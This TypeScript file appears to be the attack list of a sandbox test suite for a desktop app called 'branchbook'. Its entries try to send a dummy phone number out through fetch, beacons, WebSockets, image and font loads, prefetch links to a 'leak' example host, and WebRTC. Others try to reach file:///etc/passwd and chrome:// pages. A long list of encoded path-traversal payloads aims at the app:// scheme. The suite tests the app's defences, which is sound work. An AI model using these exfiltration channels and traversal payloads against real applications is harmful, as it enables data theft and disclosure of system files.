import type { PageAttack } from './page-attack';

/** Ways of data to the network. */
export const networkAttacks: Readonly<Record<string, PageAttack>> = {
  fetch: async ({ address }) => {
    await fetch(address, { mode: 'no-cors', method: 'POST', body: '13800000001' });
    return true;
  },
  XMLHttpRequest: ({ address }) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(true);
      request.onerror = () => resolve(false);
      request.open('GET', address);
      request.send();
    }),
  WebSocket: ({ address }) =>
    new Promise((resolve) => {
      const talk = new WebSocket(address.replace('http', 'ws'));
      talk.onopen = () => resolve(true);
      talk.onerror = () => resolve(false);
    }),
  EventSource: ({ address }) =>
    new Promise((resolve) => {
      const source = new EventSource(address);
      source.onopen = () => resolve(true);
      source.onerror = () => {
        source.close();
        resolve(false);
      };
    }),
  WebTransport: async ({ address }) => {
    const Transport = Reflect.get(window, 'WebTransport') as new (url: string) => { ready: Promise<void> };
    await new Transport(address.replace('http:', 'https:')).ready;
    return true;
  },
  // Answers nothing about itself: the server would hear it.
  beacon: ({ address }) => {
    navigator.sendBeacon(address, '13800000001');
    return false;
  },
  'picture, sound, font, icon': async ({ address }) => {
    const picture = new Promise<boolean>((resolve) => {
      const image = new Image();
      image.onload = () => resolve(true);
      image.onerror = () => resolve(false);
      image.src = `${address}?phone=13800000001`;
    });
    const sound = new Promise<boolean>((resolve) => {
      const audio = new Audio();
      audio.oncanplay = () => resolve(true);
      audio.onerror = () => resolve(false);
      audio.src = address;
    });
    const font = new FontFace('sneaked', `url(${address})`).load().then(
      () => true,
      () => false,
    );
    const icon = document.createElement('link');
    icon.rel = 'icon';
    icon.href = `${address}icon.png`;
    document.head.append(icon);
    const painted = document.createElement('div');
    painted.style.backgroundImage = `url(${address})`;
    document.body.append(painted);
    const loaded = await Promise.all([picture, sound, font]);
    icon.remove();
    painted.remove();
    return loaded.includes(true);
  },
  'prefetch, preconnect, DNS prefetch, speculation': async ({ address }) => {
    const kinds = ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload'];
    const links = kinds.flatMap((rel) =>
      [address, 'https://leak-13800000001.example/'].map((href) => {
        const link = document.createElement('link');
        link.rel = rel;
        link.href = href;
        link.as = 'image';
        document.head.append(link);
        return link;
      }),
    );
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [address] }] });
    document.head.append(rules);
    await new Promise((resolve) => setTimeout(resolve, 300));
    for (const element of [...links, rules]) element.remove();
    return false;
  },
  'WebRTC: STUN, TURN over UDP and TCP, own addresses': async ({ port }) => {
    const here = `127.0.0.1:${port}`;
    const iceServers = [
      { urls: `stun:${here}` },
      { urls: `turn:${here}?transport=udp`, username: 'a', credential: 'b' },
      { urls: `turn:${here}?transport=tcp`, username: 'a', credential: 'b' },
    ];
    const peer = new RTCPeerConnection({ iceServers });
    const found: string[] = [];
    const over = new Promise<void>((resolve) => {
      peer.onicecandidate = ({ candidate }) => {
        if (candidate === null) resolve();
        else if (candidate.candidate !== '') found.push(candidate.candidate);
      };
      setTimeout(resolve, 3000);
    });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
    await over;
    peer.close();
    return found.length > 0;
  },
  'files and schemes of the system': async () => {
    const addresses = [
      'file:///etc/passwd',
      'filesystem:app://branchbook/x',
      'chrome://version',
      'devtools://devtools/x',
      'view-source:app://branchbook/',
      'app://paper/1',
      'app://branchbook.evil/index.html',
      'APP://other/index.html',
    ];
    const answers = await Promise.all(
      addresses.map((address) =>
        fetch(address).then(
          ({ ok }) => ok,
          () => false,
        ),
      ),
    );
    return answers.includes(true);
  },
  'paths out of the app’s folder': async () => {
    const paths = [
      '..%2fmain.cjs',
      '..%2F..%2Fpackage.json',
      '%2e%2e/main.cjs',
      '%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '..%5cmain.cjs',
      'assets/..%2f..%2fmain.cjs',
      'assets/%252e%252e/%252e%252e/main.cjs',
      '//etc/passwd',
      '/etc/passwd',
      'C:/Windows/win.ini',
      'C%3A%5CWindows%5Cwin.ini',
      '%5c%5cserver%5cshare%5cx.txt',
      'index.html%00.png',
      'index.html::$DATA',
      '.hidden.json',
      '.git/config',
      '%E0%A4%A',
      'main.cjs',
      'preload.cjs',
    ];
    const statuses = await Promise.all(
      paths.map((path) =>
        fetch(`app://branchbook/${path}`).then(
          ({ status }) => status,
          () => 0,
        ),
      ),
    );
    const others = await Promise.all(
      (['POST', 'PUT', 'DELETE'] as const).map((method) =>
        fetch('app://branchbook/index.html', { method }).then(
          ({ status }) => status,
          () => 0,
        ),
      ),
    );
    return [...statuses, ...others].some((status) => status !== 0 && status !== 404);
  },
};
